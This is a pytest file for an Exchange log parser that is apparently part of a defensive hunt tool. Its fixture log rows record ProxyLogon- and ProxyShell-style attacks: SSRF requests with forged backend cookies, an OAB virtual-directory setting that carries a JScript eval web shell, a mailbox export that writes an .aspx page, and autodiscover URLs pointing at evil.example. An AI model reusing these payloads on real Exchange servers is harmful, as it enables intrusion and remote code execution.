"""Exchange CSV logs: header detection, CSV rows, timestamps (exchange_csv_log.py).

Rows and headers are the published layouts of log-formats.md (sections 2, 3 and 5); the other
test modules of the hunt import them from here.
"""

import pytest

from exchange_remediation.exchange_csv_log import (
    CsvHeader,
    CsvRowParser,
    decode_line,
    detect_header,
    looks_like_header,
    split_csv,
    url_with_query,
    utc_timestamp,
)

TOKENS = {"<EX>": "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\", "<SYS>": "C:"}

HTTPPROXY_HEADER = (
    "DateTime,RequestId,MajorVersion,MinorVersion,BuildVersion,RevisionVersion,ClientRequ"
    "estId,Protocol,UrlHost,UrlStem,ProtocolAction,AuthenticationType,IsAuthenticated,Aut"
    "henticatedUser,Organization,AnchorMailbox,UserAgent,ClientIpAddress,ServerHostName,H"
    "ttpStatus,BackEndStatus,ErrorCode,Method,ProxyAction,TargetServer,TargetServerVersio"
    "n,RoutingType,RoutingHint,BackEndCookie,ServerLocatorHost,ServerLocatorLatency,Reque"
    "stBytes,ResponseBytes,TargetOutstandingRequests,AuthModulePerfContext,HttpPipelineLa"
    "tency,CalculateTargetBackEndLatency,GlsLatencyBreakup,TotalGlsLatency,AccountForestL"
    "atencyBreakup,TotalAccountForestLatency,ResourceForestLatencyBreakup,TotalResourceFo"
    "restLatency,ADLatency,SharedCacheLatencyBreakup,TotalSharedCacheLatency,ActivityCont"
    "extLifeTime,ModuleToHandlerSwitchingLatency,ClientReqStreamLatency,BackendReqInitLat"
    "ency,BackendReqStreamLatency,BackendProcessingLatency,BackendRespInitLatency,Backend"
    "RespStreamLatency,ClientRespStreamLatency,KerberosAuthHeaderLatency,HandlerCompletio"
    "nLatency,RequestHandlerLatency,HandlerToModuleSwitchingLatency,ProxyTime,CoreLatency"
    ",RoutingLatency,HttpProxyOverhead,TotalRequestTime,RouteRefresherLatency,UrlQuery,Ba"
    "ckEndGenericInfo,GenericInfo,GenericErrors,EdgeTraceId,DatabaseGuid,UserADObjectGuid"
    ",PartitionEndpointLookupLatency,RoutingStatus"
)
# Autodiscover, health probe, SSRF to autodiscover, SSRF status 241, ResetOABVirtualDirectory, nmap check.
HTTPPROXY_ROWS = [
    (
        "2021-03-01T08:14:02.611Z,5e58f5e5-1ddc-48d3-82c6-0199bc121640,15,1,2176,2,,Autodisco"
        "ver,autodiscover.contoso.com,/autodiscover/autodiscover.xml,,NTLM,true,CONTOSO\\alice"
        ",,Sid~S-1-5-21-1004336348-1177238915-682003330-1104,Microsoft Office/16.0 (Windows N"
        "T 10.0; Microsoft Outlook 16.0.13801; Pro),198.51.100.23,EX01,200,200,,POST,Proxy,ex"
        "01.contoso.local,15.01.2176.000,IntraForest,WindowsIdentity,Database~fb7adba2-51f4-4"
        "7e3-b170-fd39f85aaf35~~2021-03-31T08:14:02,,,336,3271,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,"
        "13,,,,BeginRequest=2021-03-01T08:14:02.598Z;CorrelationID=<empty>;ProxyState-Run=Non"
        "e;FEAuth=BEVersion-1941997017;ProxyState-Complete=ProxyResponseData;SharedCacheGuard"
        "=0;EndRequest=2021-03-01T08:14:02.611Z;,,,,,,CafeV1"
    ),
    (
        "2021-03-01T08:15:05.344Z,3656c386-6be1-4301-865a-27c1f99599bd,15,1,2176,2,,Ews,local"
        "host,/ews/,,Negotiate,true,CONTOSO\\HealthMailbox3f1c2a9b7d4e4c6f,,Sid~S-1-5-21-10043"
        "36348-1177238915-682003330-1142,AMProbe/Local/ClientAccess,127.0.0.1,EX01,200,,,GET,"
        "Proxy,ex01.contoso.local,15.01.2176.000,IntraForest,WindowsIdentity,,,,,,,,,,,,,,,,,"
        ",,,,,,,,,,,,,,,,,,,1,,,,BeginRequest=2021-03-01T08:15:05.343Z;CorrelationID=<empty>;"
        "ProxyState-Run=None;FEAuth=BEVersion-1941997017;ProxyState-Complete=PrepareServerReq"
        "uest;SharedCacheGuard=0;EndRequest=2021-03-01T08:15:05.344Z;,,,,,,CafeV1"
    ),
    (
        "2021-03-03T06:49:42.162Z,8d2b6f1e-3c4a-4f5b-9e7d-1a2b3c4d5e6f,15,1,2176,2,,Ecp,mail."
        "contoso.com,/ecp/y.js,,,false,,,ServerInfo~a]@ex01.contoso.local:444/autodiscover/au"
        "todiscover.xml?#,ExchangeServicesClient/0.0.0.0,203.0.113.45,EX01,200,200,,POST,Prox"
        "y,ex01.contoso.local:444,,,X-BEResource-Cookie,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,"
        ",,,,,,,,CafeV1"
    ),
    (
        "2021-03-03T06:49:46.210Z,0b9e4c2d-7f1a-4e3b-8c5d-6a7b8c9d0e1f,15,1,2176,2,,Ecp,mail."
        "contoso.com,/ecp/y.js,,,false,,,ServerInfo~a]@ex01.contoso.local:444/ecp/proxyLogon."
        "ecp?#,python-requests/2.25.1,203.0.113.45,EX01,241,241,,POST,Proxy,ex01.contoso.loca"
        "l:444,,,X-BEResource-Cookie,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,CafeV1"
    ),
    (
        "2021-03-03T06:59:20.359Z,c4e5f6a7-b8c9-4d0e-a1f2-3b4c5d6e7f80,15,1,2176,2,,Ecp,mail."
        "contoso.com,/ecp/y.js,,,false,,,ServerInfo~a]@ex01.contoso.local:444/ecp/DDI/DDIServ"
        "ice.svc/SetObject?msExchEcpCanary=8BeqxxxWYd1L8.&schema=ResetOABVirtualDirectory#,py"
        "thon-requests/2.25.1,203.0.113.45,EX01,200,200,,POST,Proxy,ex01.contoso.local:444,,,"
        "X-BEResource-Cookie,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,CafeV1"
    ),
    (
        "2021-03-08T11:02:17.004Z,6f7e8d9c-0b1a-4c2d-9e3f-4a5b6c7d8e9f,15,1,2176,2,,Owa,mail."
        "contoso.com,/owa/auth/x.js,,,false,,,ServerInfo~localhost/ecp/default.flt?,Mozilla/5"
        ".0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html),192.0.2.10,EX"
        "01,500,,,GET,Proxy,,,,X-AnonResource-Backend-Cookie,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,"
        ",,,,,,,,,,,,,CafeV1"
    ),
]
# Normal request, legitimate Set-OabVirtualDirectory, the attack, Remove- and New-OABVirtualDirectory.
ECP_ROWS = [
    (
        "2021-03-02T09:00:01.113Z,EX01,ECP.Request,S:TIME=13;S:SID=6f1e2d3c-4b5a-4968-8776-5a"
        "4b3c2d1e0f;S:CMD=Get-InboxRule;S:REQID=;S:URL=/ecp/RulesEditor/InboxRules.svc/GetLis"
        "t?msExchEcpCanary=Qm9vbGVhbg.;S:REFERRER=;S:EX=;S:ACTID=775a5678-1234-4234-9234-1234"
        "56789987;S:RS=0;S:BLD=15.1.2176.2;S:TNAME=<null>;S:TID=;S:USID=88a55678-1234-4234-92"
        "34-123456789987;S:EDOID=;S:ACID="
    ),
    (
        "2021-02-10T09:00:01.000Z,EX01,ECP.Request,S:TIME=250;S:SID=4b3f0d5e-1c2a-4e6b-9f7d-2"
        "a1b3c4d5e6f;'S:CMD=Set-OabVirtualDirectory.ExternalUrl=''https://mail.contoso.com/OA"
        "B''.Identity=''982d48c8-8bfa-4b6b-b431-53fd7ea4e9b3''';S:REQID=;S:URL=/ecp/DDI/DDISe"
        "rvice.svc/SetObject?msExchEcpCanary=Zm9vYmFy.&schema=OABVirtualDirectory;S:REFERRER="
        ";S:EX=;S:RS=0;S:BLD=15.1.2176.2"
    ),
    (
        "2021-03-03T06:49:53.772Z,EX01,ECP.Request,\"S:TIME=1873;S:SID=4b3f0d5e-1c2a-4e6b-9f7d"
        "-2a1b3c4d5e6f;'S:CMD=Set-OabVirtualDirectory.ExternalUrl=''http://f/<script language"
        "=\"\"JScript\"\" runat=\"\"server\"\">function Page_Load(){eval(Request[\"\"klk123456\"\"],\"\"uns"
        "afe\"\");}</script>''.Identity=''982d48c8-8bfa-4b6b-b431-53fd7ea4e9b3''';S:REQID=;S:UR"
        "L=/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=M1xSxxxDuw.&schema=OABVirtualDir"
        "ectory;S:REFERRER=;S:EX=;S:RS=0;S:BLD=15.1.2176.2\""
    ),
    (
        "2021-03-03T06:50:00.717Z,EX01,ECP.Request,S:TIME=310;S:SID=4b3f0d5e-1c2a-4e6b-9f7d-2"
        "a1b3c4d5e6f;'S:CMD=Remove-OABVirtualDirectory.Force=$true.Identity=''EX01\\OAB (Defau"
        "lt Web Site)''';S:REQID=;S:URL=/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=M1x"
        "SxxxDuw.&schema=ResetOABVirtualDirectory;S:REFERRER=;S:EX=;S:RS=0;S:BLD=15.1.2176.2"
    ),
    (
        "2021-03-03T06:50:08.396Z,EX01,ECP.Request,S:TIME=7410;S:SID=4b3f0d5e-1c2a-4e6b-9f7d-"
        "2a1b3c4d5e6f;'S:CMD=New-OABVirtualDirectory.WebSiteName=''Default Web Site''.Server="
        "''EX01''.Role=''ClientAccess''.InternalURL=''https://ex01.contoso.local/OAB''.Path='"
        "'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\OAB''';S:REQID=;S"
        ":URL=/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=M1xSxxxDuw.&schema=ResetOABVi"
        "rtualDirectory;S:REFERRER=;S:EX=;S:RS=0;S:BLD=15.1.2176.2"
    ),
]
RPS_CMDLET_HEADER = (
    "DateTime,StartTime,RequestId,ClientRequestId,MajorVersion,MinorVersion,BuildVersion,"
    "RevisionVersion,ServerHostName,ProcessId,ProcessName,ThreadId,CultureInfo,Organizati"
    "on,AuthenticatedUser,ExecutingUserSid,EffectiveOrganization,UserServicePlan,IsAdmin,"
    "ClientApplication,Cmdlet,Parameters,CmdletUniqueId,UserBudgetOnStart,ContributeToFai"
    "lFast,RunspaceSettingsCreationHint,ADViewEntireForest,ADRecipientViewRoot,ADConfigur"
    "ationDomainControllers,ADPreferredGlobalCatalogs,ADPreferredDomainControllers,ADUser"
    "ConfigurationDomainController,ADUserPreferredGlobalCatalog,ADuserPreferredDomainCont"
    "rollers,ThrottlingInfo,DelayInfo,ThrottlingDelay,IsOutputObjectRedacted,CmdletProxyS"
    "tage,CmdletProxyRemoteServer,CmdletProxyRemoteServerVersion,CmdletProxyMethod,Proxie"
    "dObjectCount,CmdletProxyLatency,OutputObjectCount,ParameterBinding,BeginProcessing,P"
    "rocessRecord,EndProcessing,StopProcessing,BizLogic,PowerShellLatency,UserInteraction"
    "Latency,ProvisioningLayerLatency,ActivityContextLifeTime,TotalTime,ErrorType,Executi"
    "onResult,CacheHitCount,CacheMissCount,GenericLatency,GenericInfo,GenericErrors,Objec"
    "tGuid,ExternalDirectoryOrganizationId,ExternalDirectoryObjectId,NonPiiParameters"
)
# Health probe, role assignment, mailbox export to a page, export removed, summary row (empty DateTime).
RPS_CMDLET_ROWS = [
    (
        "2021-08-10T01:01:19.898Z,2021-08-10T01:01:19.882Z,7b91be61-3d94-406e-b00c-3d80e3e5f1"
        "15,,15,1,2308,8,EX01,6832,w3wp#MSExchangePowerShellAppPool,5,,,HealthMailbox3f1c2a9b"
        "7d4e4c6f,S-1-5-21-1004336348-1177238915-682003330-1142,,,False,ActiveMonitor,Get-Mai"
        "lbox,\"-ResultSize \"\"1\"\"\",d61f0cba-945f-4857-8c62-91321f16b7b4,,,GCRandomly,False,con"
        "toso.local,DC01.contoso.local,DC01.contoso.local,DC01.contoso.local,,,,,,,,,,,,,,,,,"
        ",,,,,,,,,,Success,,,,,,,,,\"-ResultSize \"\"1\"\"\""
    ),
    (
        "2021-08-10T22:29:55.866Z,2021-08-10T22:29:48.147Z,2d91233f-4398-44c5-8a42-d1e62cd404"
        "7b,,15,1,2308,8,EX01,6832,w3wp#MSExchangePowerShellAppPool,5,,,Administrator,S-1-5-2"
        "1-1004336348-1177238915-682003330-500,,,True,PowerShell,New-ManagementRoleAssignment"
        ",\"-Role \"\"Mailbox Import Export\"\" -User \"\"administrator@contoso.com\"\"\",6c7c685f-8dd4"
        "-44c0-b237-cd3b09667404,,,GCRandomly,False,contoso.local,DC01.contoso.local,DC01.con"
        "toso.local,DC01.contoso.local,,,,,,,,,,,,,,,,,,,,,,,,,,,Success,,,,PSSenderInfo=admi"
        "nistrator@contoso.com;,,,,,\"-Role \"\"<SNIP-PII>\"\" -User \"\"<SNIP-PII>\"\"\""
    ),
    (
        "2021-08-10T22:30:08.489Z,2021-08-10T22:29:56.414Z,2d91233f-4398-44c5-8a42-d1e62cd404"
        "7b,,15,1,2308,8,EX01,6832,w3wp#MSExchangePowerShellAppPool,5,,,Administrator,S-1-5-2"
        "1-1004336348-1177238915-682003330-500,,,True,PowerShell,New-MailboxExportRequest,\"-M"
        "ailbox \"\"administrator@contoso.com\"\" -IncludeFolders \"\"#Drafts#\"\" -ContentFilter \"\"S"
        "ubject -eq 'tkevsn'\"\" -FilePath \"\"\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\tkevs"
        "n.aspx\"\"\",3f238be2-eb95-492e-8ebd-9ae9496c00e1,,,GCRandomly,False,contoso.local,DC01"
        ".contoso.local,DC01.contoso.local,DC01.contoso.local,,,,,,,,,,,,,,,,,,,,,,,,,,,Succe"
        "ss,,,,PSSenderInfo=administrator@contoso.com;,,,,,\"-Mailbox \"\"<SNIP-PII>\"\" -IncludeF"
        "olders \"\"<SNIP-PII>\"\" -ContentFilter \"\"<SNIP-PII>\"\" -FilePath \"\"<SNIP-PII>\"\"\""
    ),
    (
        "2021-08-10T22:30:18.457Z,2021-08-10T22:30:18.421Z,2d91233f-4398-44c5-8a42-d1e62cd404"
        "7b,,15,1,2308,8,EX01,6832,w3wp#MSExchangePowerShellAppPool,5,,,Administrator,S-1-5-2"
        "1-1004336348-1177238915-682003330-500,,,True,PowerShell,Remove-MailboxExportRequest,"
        "\"-Identity \"\"contoso.local/Users/Administrator\\MailboxExport\"\" -Confirm \"\"False\"\"\",1"
        "91681e6-0fe2-4dc7-b72a-37694b76db1c,,,SessionState,False,contoso.local,DC01.contoso."
        "local,DC01.contoso.local,DC01.contoso.local,,,,,,,,,,,,,,,,,,,,,,,,,,,Success,,,,,,,"
        ",,\"-Identity \"\"<SNIP-PII>\"\" -Confirm \"\"False\"\"\""
    ),
    (
        ",,de6ad950-db9a-4337-ab36-021831076304,,15,1,2308,8,EX01,,,,,,,,,,,,,,,,,,,,,,,,,,,,"
        ",,,,,,,,,,,,,,,,,,600026,,,,,,,,,,,,"
    ),
]
IIS_FIELDS = (
    "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip c"
    "s(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken"
)
# log-formats.md section 7, in order (normal OWA ... OWASSRF back end).
IIS_ROWS = [
    (
        "2021-03-01 08:14:02 10.0.10.11 GET /owa/ &CorrelationID=<empty>;&cafeReqId=2f6e1b7a-"
        "0c3d-4e5f-8a9b-1c2d3e4f5a6b; 443 CONTOSO\\alice 198.51.100.23 Mozilla/5.0+(Windows+NT"
        "+10.0;+Win64;+x64)+AppleWebKit/537.36+(KHTML,+like+Gecko)+Chrome/88.0.4324.182+Safar"
        "i/537.36 - 200 0 0 31"
    ),
    (
        "2021-03-01 08:14:05 10.0.10.11 POST /EWS/Exchange.asmx &CorrelationID=<empty>;&cafeR"
        "eqId=7c8d9e0f-1a2b-4c3d-9e4f-5a6b7c8d9e0f; 443 - 198.51.100.57 AppleExchangeWebServi"
        "ces/818.0.1 - 401 1 2148074254 5"
    ),
    (
        "2021-03-01 08:15:05 ::1 GET /owa/auth.owa &encoding=; 443 - ::1 AMProbe/Local/Client"
        "Access - 200 0 0 19"
    ),
    (
        "2021-03-03 06:49:42 10.0.10.11 POST /ecp/y.js &CorrelationID=<empty>;&cafeReqId=8d2b"
        "6f1e-3c4a-4f5b-9e7d-1a2b3c4d5e6f; 443 - 203.0.113.45 ExchangeServicesClient/0.0.0.0 "
        "- 200 0 0 121"
    ),
    (
        "2021-03-03 06:49:46 10.0.10.11 POST /ecp/y.js &CorrelationID=<empty>;&cafeReqId=0b9e"
        "4c2d-7f1a-4e3b-8c5d-6a7b8c9d0e1f; 443 - 203.0.113.45 python-requests/2.25.1 - 241 0 "
        "0 402"
    ),
    (
        "2021-03-03 07:02:11 10.0.10.11 POST /owa/auth/Current/themes/resources/logon.css &Co"
        "rrelationID=<empty>;&cafeReqId=5b6c7d8e-9f0a-4b1c-8d2e-3f4a5b6c7d8e; 443 - 203.0.113"
        ".45 Mozilla/5.0+(compatible;+Baiduspider/2.0;++http://www.baidu.com/search/spider.ht"
        "ml) - 200 0 0 88"
    ),
    (
        "2021-03-05 03:06:27 10.0.10.11 GET /owa/auth/RedirSuiteServerProxy.aspx &Correlation"
        "ID=<empty>;&cafeReqId=cde28fc4-299e-4179-b3e9-de56f5c1d9ee;&encoding=; 443 - 198.51."
        "100.199 Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)+AppleWebKit/537.36+(KHTML,+like+Ge"
        "cko)+Chrome/65.0.2345+Safari/537.36 - 200 0 0 133"
    ),
    (
        "2021-03-06 17:27:49 10.0.10.11 GET /owa/auth/ErrorAA.aspx &CorrelationID=<empty>;&ca"
        "feReqId=556e0901-7c69-4963-9e99-3ece666e792f;&encoding=; 443 - 198.51.100.200 Mozill"
        "a/5.0+(Windows+NT+10.0;+Win64;+x64)+AppleWebKit/537.36+(KHTML,+like+Gecko)+Chrome/88"
        ".0.4324.182+Safari/537.36 - 302 0 0 101"
    ),
    (
        "2021-08-10 22:28:41 10.0.10.11 POST /autodiscover/autodiscover.json @evil.example/ma"
        "pi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.example&CorrelationID=<empty>"
        ";&cafeReqId=4e2a83c8-8e6b-4256-8c78-914f092c6012; 443 - 203.0.113.45 python-requests"
        "/2.26.0 - 200 0 0 64"
    ),
    (
        "2021-08-10 22:29:28 10.0.10.11 POST /autodiscover/autodiscover.json @evil.example/po"
        "wershell/?X-Rps-CAT=VgEAVAdXaW5kb3dzQwBBBUJhc2lj&Email=autodiscover/autodiscover.jso"
        "n%3F@evil.example&CorrelationID=<empty>;&cafeReqId=0cd07968-a191-4883-aa5b-101cd097e"
        "fcf; 443 - 203.0.113.45 python-requests/2.26.0 - 200 0 0 98"
    ),
    (
        "2021-08-11 02:10:03 10.0.10.11 POST /autodiscover/autodiscover.json @evil.example/po"
        "wershell/?X-Rps-CAT=VgEAVAdXaW5kb3dzQwBBBUJhc2lj&Email=autodiscover/autodiscover.jso"
        "n%3F@evil.example&CorrelationID=<empty>;&cafeReqId=9f8e7d6c-5b4a-4392-8170-6f5e4d3c2"
        "b1a; 443 - 203.0.113.46 python-requests/2.26.0 - 401 0 0 12"
    ),
    (
        "2022-09-29 03:12:44 10.0.10.11 POST /autodiscover/autodiscover.json @evil.example/ow"
        "a/&Email=autodiscover/autodiscover.json%3F@evil.example&Protocol=XYZ&FooProtocol=%50"
        "owershell&CorrelationID=<empty>;&cafeReqId=a1b2c3d4-e5f6-4a7b-8c9d-0e1f2a3b4c5d; 443"
        " CONTOSO\\bob 203.0.113.90 Mozilla/5.0+zgrab/0.x - 200 0 0 233"
    ),
    (
        "2022-10-03 11:40:19 10.0.10.11 GET /autodiscover/autodiscover.json %40evil.example/%"
        "50owershell/&Email=autodiscover/autodiscover.json%3F%40evil.example&CorrelationID=<e"
        "mpty>;&cafeReqId=b2c3d4e5-f6a7-4b8c-9d0e-1f2a3b4c5d6e; 443 CONTOSO\\bob 203.0.113.91 "
        "python-requests/2.28.1 - 200 0 0 140"
    ),
    (
        "2022-12-06 02:41:18 10.0.10.11 POST /owa/mastermailbox%40outlook.com/powershell &Cor"
        "relationID=<empty>;&cafeReqId=f0e1d2c3-b4a5-4968-8778-695a4b3c2d1e; 443 CONTOSO\\bob "
        "203.0.113.77 Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)+AppleWebKit/537.36+(KHTML,+li"
        "ke+Gecko)+Chrome/105.0.5195.54+Safari/537.36 - 200 0 0 375"
    ),
    (
        "2022-12-06 02:41:18 10.0.10.11 POST /powershell - 444 CONTOSO\\bob 10.0.10.11 Mozilla"
        "/5.0+(Windows+NT+10.0;+Win64;+x64)+AppleWebKit/537.36+(KHTML,+like+Gecko)+Chrome/105"
        ".0.5195.54+Safari/537.36 - 200 0 0 2"
    ),
]
ECP_FIELDS = "#Fields: TimeStamp,ServerName,EventId,EventData"


def directive_block(log_type, fields, date="2021-03-03T06:00:00.011Z"):
    return [
        "#Software: Microsoft Exchange Server",
        "#Version: 15.01.2176.002",
        f"#Log-type: {log_type}",
        f"#Date: {date}",
        f"#Fields: {fields}",
    ]


def _numbered(lines):
    return [(number, line.encode("utf-8")) for number, line in enumerate(lines, 1)]


def _split(lines):
    numbered = _numbered(lines)
    directives = [item for item in numbered if item[1].startswith(b"#")]
    data = [item for item in numbered if not item[1].startswith(b"#")]
    return directives, (data[0] if data else None)


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("2021-03-03T06:49:42.162Z", "2021-03-03T06:49:42.162Z"),
        ("2021-08-10T22:30:08.4890000Z", "2021-08-10T22:30:08.489Z"),
        ("2021-03-03 06:49:42", "2021-03-03T06:49:42Z"),
        ("2021-03-03T06:49:42.1Z", "2021-03-03T06:49:42.100Z"),
        ("2021-03-03T08:49:42+02:00", "2021-03-03T06:49:42Z"),
        ("2021-03-03T06:49:42 UTC", "2021-03-03T06:49:42Z"),
        ("", None),
        ("DateTime", None),
        (None, None),
        ("2021-13-45Tnonsense", None),
    ],
)
def test_utc_timestamp(value, expected):
    assert utc_timestamp(value) == expected


def test_layout_a_header_from_the_fields_directive():
    lines = [*directive_block("HttpProxy Logs", HTTPPROXY_HEADER), HTTPPROXY_ROWS[3]]
    directives, first_data = _split(lines)
    header = detect_header(directives, first_data)
    assert header.origin == "fields"
    assert header.line == 5
    assert len(header.names) == 74
    assert header.names[15] == "AnchorMailbox"
    assert header.time_column == 0


def test_layout_b_bare_header_without_fields_directive():
    # A copy that lost its '#Fields' line: the bare header on line 1 is what Import-Csv reads.
    lines = [HTTPPROXY_HEADER, "#Software: Microsoft Exchange Server", "#Log-type: HttpProxy Logs", HTTPPROXY_ROWS[0]]
    directives, first_data = _split(lines)
    header = detect_header(directives, first_data)
    assert header.origin == "bare"
    assert header.line == 1
    assert header.columns["urlstem"] == 9


def test_layout_b_prefers_the_fields_directive_and_drops_the_header_row():
    lines = [HTTPPROXY_HEADER, *directive_block("HttpProxy Logs", HTTPPROXY_HEADER), HTTPPROXY_ROWS[3]]
    directives, first_data = _split(lines)
    header = detect_header(directives, first_data)
    assert header.origin == "fields"
    parser = CsvRowParser(header, TOKENS)
    assert parser.record(HTTPPROXY_HEADER) is None
    assert parser.record(HTTPPROXY_HEADER.upper()) is None
    assert parser.record(HTTPPROXY_ROWS[3]) is not None


def test_no_header_at_all():
    directives, first_data = _split(["#Software: Microsoft Exchange Server", HTTPPROXY_ROWS[0]])
    assert detect_header(directives, first_data) is None
    assert detect_header([], None) is None
    assert not looks_like_header(["2021-03-03T06:49:42.162Z", "x"])
    assert looks_like_header(["TimeStamp", "ServerName", "EventId", "EventData"])


def test_httpproxy_ssrf_row_by_column_name():
    header = CsvHeader.parse(HTTPPROXY_HEADER, "fields")
    pages = []
    parser = CsvRowParser(header, TOKENS, page_on_disk=lambda stem: pages.append(stem) or stem.endswith(".aspx"))
    record, time = parser.record(HTTPPROXY_ROWS[3])
    assert time == "2021-03-03T06:49:46.210Z"
    assert record.get("anchormailbox") == "ServerInfo~a]@ex01.contoso.local:444/ecp/proxyLogon.ecp?#"
    assert record.get("HttpStatus") == "241"
    assert record.get("AuthenticatedUser") == ""
    assert record.get("RoutingHint") == "X-BEResource-Cookie"
    assert record.get("RoutingStatus") == "CafeV1"
    assert record.get("uri") == "/ecp/y.js"
    assert record.get("page_on_disk") == "false"
    assert pages == ["/ecp/y.js"]
    assert record.get("line") == HTTPPROXY_ROWS[3]
    assert "line" not in record.fields()
    assert parser.short_rows == 0


def test_httpproxy_uri_takes_the_query():
    assert url_with_query("/owa/", "?ae=Item") == "/owa/?ae=Item"
    assert url_with_query("/owa/", "ae=Item") == "/owa/?ae=Item"
    assert url_with_query("/owa/", "-") == "/owa/"
    assert url_with_query("/owa/", "") == "/owa/"


def test_space_for_comma_user_agent_is_one_field():
    header = CsvHeader.parse(HTTPPROXY_HEADER, "fields")
    record, _time = CsvRowParser(header, TOKENS).record(HTTPPROXY_ROWS[0])
    assert record.get("UserAgent") == "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.13801; Pro)"
    assert record.get("GenericInfo").startswith("BeginRequest=2021-03-01T08:14:02.598Z;CorrelationID=<empty>;")


def test_ecp_quoted_field_with_doubled_quotes():
    header = CsvHeader.parse(ECP_FIELDS[len("#Fields:"):], "fields")
    record, time = CsvRowParser(header, TOKENS).record(ECP_ROWS[2])
    assert time == "2021-03-03T06:49:53.772Z"
    data = record.get("EventData")
    assert '<script language="JScript" runat="server">' in data
    assert 'eval(Request["klk123456"],"unsafe");' in data
    assert data.endswith("S:BLD=15.1.2176.2")
    assert record.get("timestamp") == "2021-03-03T06:49:53.772Z"


def test_rps_cmdlet_parameters_unquoted_and_summary_row():
    header = CsvHeader.parse(RPS_CMDLET_HEADER, "bare")
    parser = CsvRowParser(header, TOKENS)
    record, time = parser.record(RPS_CMDLET_ROWS[0])
    assert time == "2021-08-10T01:01:19.898Z"
    assert record.get("Parameters") == '-ResultSize "1"'
    assert record.get("NonPiiParameters") == '-ResultSize "1"'
    record, _time = parser.record(RPS_CMDLET_ROWS[2])
    assert record.get("Cmdlet") == "New-MailboxExportRequest"
    assert "-FilePath \"\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\tkevsn.aspx\"" in record.get("Parameters")
    summary, time = parser.record(RPS_CMDLET_ROWS[4])
    assert time is None
    assert summary.get("DateTime") == ""
    assert summary.get("RequestId") == "de6ad950-db9a-4337-ab36-021831076304"


def test_extra_hook_adds_fields():
    header = CsvHeader.parse(RPS_CMDLET_HEADER, "bare")
    parser = CsvRowParser(header, TOKENS, extra_fields=lambda fields: fields.update({"param.X": "1"}))
    record, _time = parser.record(RPS_CMDLET_ROWS[1])
    assert record.get("param.x") == "1"


def test_missing_trailing_columns_and_extra_columns():
    header = CsvHeader.parse("TimeStamp,ServerName,EventId,EventData", "fields")
    parser = CsvRowParser(header, TOKENS)
    record, time = parser.record("2021-03-02T09:00:01.113Z,EX01")
    assert time == "2021-03-02T09:00:01.113Z"
    assert record.get("EventId") == ""
    assert record.get("EventData") == ""
    assert parser.short_rows == 1
    record, _time = parser.record("2021-03-02T09:00:01.113Z,EX01,ECP.Request,a,b,c")
    assert record.get("EventData") == "a"
    assert record.get("extra") == ["b", "c"]


def test_time_column_when_it_is_not_first():
    header = CsvHeader.parse("ServerName,DateTime,Message", "fields")
    assert header.time_column == 1
    assert header.time_of('EX01,2021-03-02T09:00:01.113Z,"a, b"') == "2021-03-02T09:00:01.113Z"
    assert CsvHeader.parse("A,B", "fields").time_of("x,y") is None


def test_repeated_column_names_keep_the_first_value():
    header = CsvHeader.parse("DateTime,Name,name", "fields")
    record, _time = CsvRowParser(header, TOKENS).record("2021-03-02T09:00:01Z,first,second")
    assert record.get("Name") == "first"


def test_decode_line_replaces_invalid_utf8():
    assert decode_line("café".encode()) == ("café", False)
    text, bad = decode_line(b"caf\xe9 \xff")
    assert bad
    assert text == "caf\ufffd \ufffd"


def test_split_csv_survives_broken_quoting():
    assert split_csv('a,"b,c') == ["a", "b,c"]
    assert split_csv('a,"b""c",d') == ["a", 'b"c', "d"]
    assert split_csv("a,b\x00c") == ["a", "b\x00c"]
